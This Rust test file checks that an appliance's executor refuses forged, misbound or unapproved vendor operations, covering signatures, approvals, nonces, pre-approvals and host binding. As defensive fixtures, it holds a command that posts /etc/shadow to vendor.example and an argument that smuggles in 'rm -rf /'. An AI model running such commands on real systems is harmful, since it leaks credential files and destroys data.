//! The executor against real signatures: the test kit's CA issues the control plane's
//! operations certificate and the appliance's; customer keys are fixed seeds; time is injected.
//! What each instruction comes to is asserted on its codes, here and on the wire.

use std::sync::atomic::Ordering;

use airlock_core::audit::AuditAction;
use airlock_core::dsse::Envelope;
use airlock_core::grant::{ApprovalDecision, ApprovalLevel, DenyCode, GrantBody, PRE_APPROVAL_PAYLOAD_TYPE};
use airlock_core::operation::{
    AckCode, AuthorityKind, EXECUTION_PAYLOAD_TYPE, ExecutionStatus, OpenedAs, REQUEST_PAYLOAD_TYPE, RefusalCode,
    VendorAttested, VerifyInputs, pem_certificate_der, sha256_hex, verify_certified_envelope, verify_parsed_manifest,
};
use airlock_core::policy::Phase;
use airlock_core::template::Template;
use airlock_core::{ApplianceId, Timestamp};
use airlock_proto::gateway::{OperationAckKind, appliance_message};
use airlock_testkit::{Ca, TRUST_DOMAIN, customer, op_id};

use crate::ops_store::OpState;
use crate::result::Outcome;
use crate::testing::*;

#[tokio::test]
async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
    let fx = Fx::new(ALL_PHASES);
    fx.attest();
    let stmt = fx.simple(op_id(1), "api");
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    // The attestation goes up with the result, for the control plane's manifests.
    assert_eq!(r.appliance_attestation_json.as_bytes(), fx.attestation(&[1], |_| {}).as_slice());
    // The execution verifies against the CA, and names this appliance.
    let env = Envelope::from_json(r.execution_envelope_json.as_bytes()).unwrap();
    let ca_der = pem_certificate_der(fx.kit.ca.pem()).unwrap();
    let e = fx.execution(&r);
    let certified =
        verify_certified_envelope(&env, EXECUTION_PAYLOAD_TYPE, &r.appliance_certificate_pem, &ca_der, e.started_at)
            .unwrap();
    assert!(certified.uris.contains(&fx.kit.identity.uri()));
    assert_eq!(e.exit_code, Some(3));
    assert_eq!(e.status, ExecutionStatus::Completed);
    assert_eq!(e.authority.kind, AuthorityKind::Grant);
    assert_eq!(e.authority.policy_digest, fx.policy.as_ref().map(|p| p.digest_hex()));
    assert_eq!((e.sequence, e.previous_manifest_sha256.as_deref()), (1, None));
    let held = fx.control.ops.open_output(op_id(1)).unwrap();
    let plain = held.bytes.clone();
    let text = String::from_utf8(plain.clone()).unwrap();
    assert!(text.starts_with("hello api from ") && text.ends_with("oops\n"), "{text}");
    // A salted commitment, which opens with the salt sealed beside the output.
    let salt = held.salt.clone().unwrap();
    assert_eq!(e.output_commitment.check(Some(&salt), &plain), Ok(OpenedAs::Salted));
    assert_ne!(e.output_commitment.digest(), Some(sha256_hex(&plain).as_str()));
    // Only the digest and size leave; the plaintext is in no file of the state directory.
    for f in all_files(fx.dir.path()) {
        let bytes = std::fs::read(&f).unwrap();
        assert!(!bytes.windows(9).any(|w| w == b"hello api"), "plaintext output in {}", f.display());
    }
    // The appliance's own manifest verifies offline.
    let manifest = fx.control.ops.manifest(op_id(1)).unwrap().unwrap();
    let keys = customer::public_keys(&[1]);
    let inputs = VerifyInputs {
        ca_der: &ca_der,
        customer_keys: &keys,
        approvals_required: 1,
        policy: None,
        vendor_attested: VendorAttested::Refuse,
    };
    verify_parsed_manifest(&manifest, &inputs).unwrap();
    let executed = fx.audited(AuditAction::OperationExecuted);
    assert_eq!(executed[0]["detail"]["output_commitment"]["salted"]["size"], plain.len());
    // Asked again: the stored result, nothing runs twice.
    let again = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_eq!(again, r);
    assert_eq!(fx.audited(AuditAction::OperationExecuted).len(), 1);
    // The next operation extends the chain.
    let stmt2 = fx.simple(op_id(2), "web");
    let r2 = fx.run(&stmt2, &fx.grant(&stmt2)).await;
    let e2 = fx.execution(&r2);
    assert_eq!(e2.sequence, 2);
    assert_eq!(e2.previous_manifest_sha256, Some(e.manifest_sha256()));
    // Results wait in the outbox until acknowledged.
    assert_eq!(fx.control.ops.pending().unwrap().len(), 2);
    let _ = fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Result));
    let _ =
        fx.control.outbound.on_ack(&ack(op_id(2), OperationAckKind::Result, AckCode::Refused, "refused for the test"));
    assert!(fx.control.ops.pending().unwrap().is_empty());
    assert_eq!(fx.audited(AuditAction::OperationAckRefused).len(), 1);
}

#[tokio::test]
async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(22), "api");
    let signed_by = |signer: &airlock_testkit::Signer| {
        let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
        i.request_envelope_json =
            signer.sign_payload(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap()).to_json();
        i.control_plane_certificate_pem = signer.cert_pem.clone();
        i
    };
    // Signed by a look-alike CA's control-plane certificate.
    let rogue = Ca::new("Airlock test CA").issue(&format!("spiffe://{TRUST_DOMAIN}/control-plane"));
    assert_refused(&fx.send(signed_by(&rogue)).await, RefusalCode::Unauthenticated);
    // Signed by a certificate of our CA that is not the control plane's operations identity.
    assert_refused(&fx.send(signed_by(&fx.kit.appliance)).await, RefusalCode::Unauthenticated);
    // A payload edited after signing.
    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
    let mut env = Envelope::from_json(i.request_envelope_json.as_bytes()).unwrap();
    env.payload = serde_json::to_vec(&fx.simple(op_id(22), "web")).unwrap();
    i.request_envelope_json = env.to_json();
    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, "");
    i.request_envelope_json = "{not json".into();
    assert_refused(&fx.send(i).await, RefusalCode::Malformed);
    assert!(!fx.ran(op_id(22)));
    assert!(fx.control.ops.record(op_id(22)).unwrap().is_none(), "an unauthenticated refusal is not stored");
    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(22))));
    assert_eq!(fx.audited(AuditAction::OperationRefused).len(), 4);

    // For another appliance.
    let mut other = fx.simple(op_id(29), "api");
    other.request.appliance = ApplianceId::from_random([8; 16]);
    let r = fx.run(&other, &fx.grant(&other)).await;
    assert_refused(&r, RefusalCode::Misbound);
    assert!(!fx.ran(op_id(29)));
}

#[tokio::test]
async fn command_must_be_exactly_what_the_template_renders() {
    let fx = Fx::new(ALL_PHASES);
    // The vendor signs a different script than the template's, with a matching digest.
    let mut stmt = fx.simple(op_id(34), "api");
    stmt.command.script = "curl -d @/etc/shadow https://vendor.example\n".into();
    stmt.request.command_sha256 = stmt.command.sha256();
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    // The right command, but a digest that is not its own.
    let mut stmt = fx.simple(op_id(18), "api");
    stmt.request.command_sha256 = "00".repeat(32);
    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
    // Data tags the customer was not shown.
    let mut stmt = fx.simple(op_id(35), "api");
    stmt.request.data_tags.clear();
    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
    // A value the template's pattern refuses.
    let mut stmt = fx.simple(op_id(37), "api");
    stmt.request.args = vars("api; rm -rf /");
    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
    // A vendor template named like one of the appliance's own probes, labelled Observe, would
    // otherwise run without any customer signature.
    let probe = MANIFEST.replace("echo-service", "status").replace("\"operate\"", "\"observe\"");
    // Core refuses to build such a template, so the vendor's statement is assembled by hand.
    let mut stmt = fx.statement(op_id(31), MANIFEST, SCRIPT, vars("api"));
    stmt.request.kind = "status".into();
    stmt.request.phase = Phase::Observe;
    stmt.command.template = "status".into();
    stmt.request.command_sha256 = stmt.command.sha256();
    let r = fx.send(fx.instruction(&stmt, &probe, SCRIPT, "")).await;
    assert_refused(&r, RefusalCode::Misbound);
    for id in [op_id(34), op_id(18), op_id(35), op_id(37), op_id(31)] {
        assert!(!fx.ran(id), "{id} ran");
        assert_eq!(fx.control.ops.record(id).unwrap().unwrap().state, OpState::Refused);
    }
}

#[tokio::test]
async fn approvals_that_do_not_hold_are_refused() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(11), "api");
    // Signed by a key that is not pinned.
    assert_refused(&fx.run(&stmt, &fx.grant_with(&stmt, 7, |_| {})).await, RefusalCode::ApprovalInvalid);
    // An approval of another request.
    let other = fx.simple(op_id(14), "api");
    let stmt = fx.simple(op_id(15), "api");
    assert_denied(&fx.run(&stmt, &fx.grant(&other)).await, DenyCode::GrantForAnotherRequest);
    // Expired, and not yet valid.
    let stmt = fx.simple(op_id(16), "api");
    let expired = fx.grant_with(&stmt, 1, |g| {
        g.not_before = Timestamp::from_unix_millis(NOW - 2 * HOUR);
        g.not_after = Timestamp::from_unix_millis(NOW - 1);
    });
    assert_denied(&fx.run(&stmt, &expired).await, DenyCode::GrantExpired);
    let stmt = fx.simple(op_id(19), "api");
    let future = fx.grant_with(&stmt, 1, |g| {
        g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
        g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
    });
    assert_awaiting(&fx.run(&stmt, &future).await, RefusalCode::ApprovalNotYetValid);
    // Garbage in place of an approval.
    let stmt = fx.simple(op_id(21), "api");
    assert_refused(&fx.run(&stmt, "{\"payload\":1}").await, RefusalCode::Malformed);
    for id in [op_id(11), op_id(15), op_id(16), op_id(19), op_id(21)] {
        assert!(!fx.ran(id), "{id} ran");
    }
    // The customer said no.
    let stmt = fx.simple(op_id(23), "api");
    let denial = fx.grant_with(&stmt, 1, |g| g.decision = ApprovalDecision::Deny);
    assert_refused(&fx.run(&stmt, &denial).await, RefusalCode::CustomerDenied);
    assert_eq!(fx.audited(AuditAction::OperationDeniedByCustomer).len(), 1);
    assert!(!fx.ran(op_id(23)));
    // No approval yet: awaiting, nothing stored, and it runs once the approval comes.
    let stmt = fx.simple(op_id(24), "api");
    let r = fx.run(&stmt, "").await;
    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
    assert!(fx.control.ops.record(op_id(24)).unwrap().is_none());
    assert_eq!(fx.run(&stmt, &fx.grant(&stmt)).await.outcome, Outcome::Executed);
}

#[tokio::test]
async fn an_approval_not_valid_yet_awaits_and_runs_once_it_is() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(20), "api");
    let early = fx.grant_with(&stmt, 1, |g| {
        g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
        g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
    });
    let r = fx.run(&stmt, &early).await;
    assert_awaiting(&r, RefusalCode::ApprovalNotYetValid);
    // When it becomes valid travels as a time, not in the sentence.
    assert_eq!(r.refusal.as_ref().and_then(|f| f.valid_from), Some(Timestamp::from_unix_millis(NOW + MINUTE)));
    assert_eq!(r.to_proto().valid_from_unix_ms, NOW + MINUTE);
    // Nothing final is stored, nothing ran, nothing waits in the outbox; the wait is audited.
    assert!(fx.control.ops.record(op_id(20)).unwrap().is_none());
    assert!(!fx.ran(op_id(20)));
    assert!(fx.control.ops.pending().unwrap().is_empty());
    let awaiting = fx.audited(AuditAction::OperationAwaitingApproval);
    assert_eq!(awaiting.len(), 1);
    assert_eq!(awaiting[0]["detail"]["request_id"], op_id(20).to_string());
    // The control plane sends it again once the approval holds: it runs.
    fx.clock.store(NOW + 2 * MINUTE, Ordering::SeqCst);
    assert_eq!(fx.run(&stmt, &early).await.outcome, Outcome::Executed);
}

#[tokio::test]
async fn a_nonce_is_spent_once_even_across_restarts() {
    let mut fx = Fx::new(ALL_PHASES);
    let first = fx.simple(op_id(1), "api");
    let nonce = |g: &mut GrantBody| g.nonce = "same-nonce".into();
    assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
    let second = fx.simple(op_id(2), "api");
    assert_denied(&fx.run(&second, &fx.grant_with(&second, 1, nonce)).await, DenyCode::NonceReplayed);
    fx.restart();
    let third = fx.simple(op_id(3), "api");
    assert_denied(&fx.run(&third, &fx.grant_with(&third, 1, nonce)).await, DenyCode::NonceReplayed);
    assert!(!fx.ran(op_id(2)) && !fx.ran(op_id(3)));
    // After the restart, a finished request is still answered from its record.
    assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
    assert_eq!(fx.audited(AuditAction::OperationExecuted).len(), 1);
}

#[tokio::test]
async fn deny_rules_and_disabled_phases_beat_a_valid_approval() {
    let fx = Fx::new(&format!(
        "{ALL_PHASES}[[deny]]\nid = \"never-db\"\nkind = \"echo-service\"\nargs = {{ service = \"db\" }}\n"
    ));
    let stmt = fx.simple(op_id(17), "db");
    assert_denied(&fx.run(&stmt, &fx.grant(&stmt)).await, DenyCode::DeniedByRule);
    let denied = fx.audited(AuditAction::OperationDenied);
    assert_eq!(denied[0]["detail"]["rule"], "never-db");
    fx.control.set_phase(HOST_ADMIN, Phase::Operate, false).unwrap();
    let stmt = fx.simple(op_id(28), "api");
    assert_denied(&fx.run(&stmt, &fx.grant(&stmt)).await, DenyCode::PhaseDisabled);
    assert!(!fx.ran(op_id(17)) && !fx.ran(op_id(28)));
    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(28))), "a refused grant's nonce is not spent");
}

#[tokio::test]
async fn pre_approval_runs_are_counted_across_restarts_until_spent() {
    let mut fx = Fx::new(ALL_PHASES);
    fx.control.pre_approval_add(HOST_ADMIN, &fx.pre_approval(|_| {})).unwrap();
    let r = fx.run(&fx.simple(op_id(1), "api"), "").await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    assert_eq!(fx.execution(&r).authority.kind, AuthorityKind::PreApproval);
    assert!(!r.pre_approval_envelope_json.is_empty());
    fx.restart();
    assert_eq!(fx.control.pre_approvals.get("routine").unwrap().runs_used, 1);
    assert_eq!(fx.run(&fx.simple(op_id(2), "api"), "").await.outcome, Outcome::Executed);
    fx.restart();
    let r = fx.run(&fx.simple(op_id(3), "api"), "").await;
    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
    // Why each pre-approval did not apply is for the customer reading the refusal.
    assert!(r.reason.contains("runs are spent"), "{}", r.reason);
    assert!(!fx.ran(op_id(3)));
    // Commands only: the output waits for the customer's release.
    assert!(
        fx.control
            .ops
            .pending()
            .unwrap()
            .iter()
            .all(|m| matches!(m.body, Some(appliance_message::Body::OperationResult(_))))
    );
    // A pre-approval signed by an unpinned key is refused when added.
    let forged = customer::sign(PRE_APPROVAL_PAYLOAD_TYPE, b"{}".to_vec(), &[7]).to_json();
    assert!(fx.control.pre_approval_add(HOST_ADMIN, forged.as_bytes()).is_err());
}

#[tokio::test]
async fn pre_approval_constraints_and_revocation_hold() {
    let fx = Fx::new(ALL_PHASES);
    let env = fx.pre_approval(|p| {
        p.constraints.insert("service".into(), "api|web".into());
        p.max_runs = 10;
    });
    fx.control.pre_approval_add(HOST_ADMIN, &env).unwrap();
    let r = fx.run(&fx.simple(op_id(17), "db"), "").await;
    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
    // Why each pre-approval did not apply is for the customer reading the refusal.
    assert!(r.reason.contains("`service` does not meet its constraint"), "{}", r.reason);
    assert!(!fx.ran(op_id(17)));
    fx.control.pre_approval_revoke(HOST_ADMIN, "routine").unwrap();
    let r = fx.run(&fx.simple(op_id(12), "api"), "").await;
    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
    assert!(!fx.ran(op_id(12)));
    // Adding it again does not lift the revocation.
    fx.control.pre_approval_add(HOST_ADMIN, &env).unwrap();
    assert!(fx.control.pre_approvals.get("routine").unwrap().revoked);
    assert_eq!(fx.run(&fx.simple(op_id(13), "api"), "").await.outcome, Outcome::AwaitingApproval);
}

#[tokio::test]
async fn commands_and_output_pre_approval_releases_output_unless_secret() {
    let fx = Fx::new(ALL_PHASES);
    fx.control
        .pre_approval_add(
            HOST_ADMIN,
            &fx.pre_approval(|p| {
                p.level = ApprovalLevel::CommandsAndOutput;
                p.max_runs = 5;
            }),
        )
        .unwrap();
    assert_eq!(fx.run(&fx.simple(op_id(1), "api"), "").await.outcome, Outcome::Executed);
    let releases: Vec<_> = fx
        .control
        .ops
        .pending()
        .unwrap()
        .into_iter()
        .filter_map(|m| match m.body {
            Some(appliance_message::Body::OutputRelease(r)) => Some(r),
            _ => None,
        })
        .collect();
    assert_eq!(releases.len(), 1);
    assert!(releases[0].release_envelope_json.is_empty());
    let held = fx.control.ops.open_output(op_id(1)).unwrap();
    assert_eq!(releases[0].output, held.bytes);
    assert_eq!(releases[0].output_salt, held.salt.unwrap().as_bytes());
    // The salt joins the appliance's own manifest as it leaves with the output.
    assert!(fx.control.ops.manifest(op_id(1)).unwrap().unwrap().output_salt.is_some());

    let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
    let t = Template::new(&secret_manifest, SCRIPT).unwrap();
    let fx2 = Fx::new(ALL_PHASES);
    fx2.control
        .pre_approval_add(
            HOST_ADMIN,
            &fx2.pre_approval(|p| {
                p.level = ApprovalLevel::CommandsAndOutput;
                p.template_sha256 = t.content_sha256().to_owned();
            }),
        )
        .unwrap();
    let stmt = fx2.statement(op_id(33), &secret_manifest, SCRIPT, vars("api"));
    let r = fx2.send(fx2.instruction(&stmt, &secret_manifest, SCRIPT, "")).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    assert_eq!(fx2.control.ops.pending().unwrap().len(), 1, "only the result; secret output never leaves");
}

#[tokio::test]
async fn deciding_writes_nothing_and_acting_spends_the_authority_before_anything_runs() {
    use super::decide::{Spend, Verdict};
    let fx = Fx::new(&format!(
        "{ALL_PHASES}[[deny]]\nid = \"never-db\"\nkind = \"echo-service\"\nargs = {{ service = \"db\" }}\n"
    ));
    let files = || -> std::collections::BTreeMap<_, _> {
        all_files(fx.dir.path()).into_iter().map(|f| (f.clone(), std::fs::read(f).unwrap())).collect()
    };
    let before = files();
    // Allowed on an approval, refused by a rule, and waiting for one: each is decided, and
    // nothing is written, audited or spent.
    let allowed = fx.simple(op_id(1), "api");
    let approved = fx.instruction(&allowed, MANIFEST, SCRIPT, &fx.grant(&allowed));
    match fx.exec.decide(&approved).unwrap() {
        Verdict::Allowed(a) => assert!(matches!(a.spend, Spend::Nonce { .. }), "{:?}", a.spend),
        other => panic!("{other:?}"),
    }
    let denied = fx.simple(op_id(2), "db");
    match fx.exec.decide(&fx.instruction(&denied, MANIFEST, SCRIPT, &fx.grant(&denied))).unwrap() {
        Verdict::Refused(r) => assert_eq!(r.grounds.refusal.deny, Some(DenyCode::DeniedByRule)),
        other => panic!("{other:?}"),
    }
    let waiting = fx.simple(op_id(3), "api");
    assert!(matches!(fx.exec.decide(&fx.instruction(&waiting, MANIFEST, SCRIPT, "")).unwrap(), Verdict::Awaiting(..)));
    assert_eq!(files(), before, "deciding wrote to the state directory");
    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(1))));
    // Acting on it spends the nonce and records the operation `running` before it runs.
    let handle = match fx.exec.handle(approved).await {
        crate::executor::Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    assert!(fx.control.nonces.is_used(&format!("nonce-{}", op_id(1))));
    let allowed_at = fx.audit_records().iter().position(|r| r["action"] == "operation.allowed").unwrap();
    assert_eq!(handle.await.unwrap().outcome, Outcome::Executed);
    let executed_at = fx.audit_records().iter().position(|r| r["action"] == "operation.executed").unwrap();
    assert!(allowed_at < executed_at);
}

#[tokio::test]
async fn a_template_over_a_limit_is_refused_fast_with_its_own_code_and_the_appliance_goes_on() {
    let fx = Fx::new(ALL_PHASES);
    // A vendor (or whoever holds the operations key) sends a template that is cheap to write and
    // costly to compile: with the regex crate's defaults, 200 of these took 10.4 s and 1.17 GB.
    let costly = MANIFEST.replace("[a-z][a-z0-9-]{0,40}", r"\\w{100}");
    let stmt = fx.simple(op_id(70), "api");
    let started = std::time::Instant::now();
    let r = fx.send(fx.instruction(&stmt, &costly, SCRIPT, &fx.grant(&stmt))).await;
    assert!(started.elapsed() < std::time::Duration::from_secs(1), "{:?}", started.elapsed());
    assert_refused(&r, RefusalCode::LimitExceeded);
    assert!(r.reason.contains("compiles past the limit"), "{r:?}");
    assert!(!fx.ran(op_id(70)));
    // Refused for good, like any final refusal, and the next good request runs.
    assert_eq!(fx.control.ops.record(op_id(70)).unwrap().unwrap().state, OpState::Refused);
    let stmt = fx.simple(op_id(71), "api");
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert!(fx.ran(op_id(71)), "{r:?}");
}

#[tokio::test]
async fn an_approval_given_for_another_environment_never_runs_here() {
    let fx = Fx::new(ALL_PHASES);
    // The customer reviewed and approved a request naming another environment; the vendor's
    // statement says this one, where this appliance (or one given the same id) runs.
    let mut stmt = fx.simple(op_id(50), "api");
    stmt.request.environment = Some(airlock_core::EnvironmentId::from_random([7; 16]));
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    assert!(!fx.ran(op_id(50)));
    // Nor does a request that names no environment in what the customer signs.
    let mut stmt = fx.simple(op_id(51), "api");
    stmt.request.environment = None;
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
}

#[tokio::test]
async fn an_approval_for_another_hosts_key_is_refused_and_one_naming_this_hosts_runs() {
    // Two hosts the vendor gave one appliance id, both attested by the customer: the approval
    // the customer gave names host B's key; it arrives at this host, A.
    let fx = Fx::new(ALL_PHASES);
    let host_b = airlock_core::execution_key::ExecutionSigningKey::from_seed([77; 32]);
    let other_host = |fx: &Fx, id: u8| {
        let mut stmt = fx.simple(op_id(id), "api");
        stmt.request.execution_key = Some(host_b.public().key_id().to_owned());
        stmt
    };
    // Not yet attested here: a request naming any key cannot be this host's.
    let stmt = other_host(&fx, 60);
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    assert!(!fx.ran(op_id(60)));
    let own = fx.control.execution_key().public().key_id().to_owned();
    let mut stmt = fx.simple(op_id(61), "api");
    stmt.request.execution_key = Some(own.clone());
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    // Attested: another host's key is refused, with a reason that says so, and nothing runs.
    fx.attest();
    let stmt = other_host(&fx, 62);
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    assert!(r.reason.contains("approved for another host"), "{r:?}");
    assert!(!fx.ran(op_id(62)));
    // So is a request naming no host, made before the control plane learned the attestation.
    let mut stmt = fx.simple(op_id(63), "api");
    stmt.request.execution_key = None;
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    assert!(!fx.ran(op_id(63)));
    // One naming this host's attested key runs.
    let stmt = fx.simple(op_id(64), "api");
    assert_eq!(stmt.request.execution_key.as_deref(), Some(own.as_str()));
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    assert!(fx.ran(op_id(64)));
}

mod deploy;
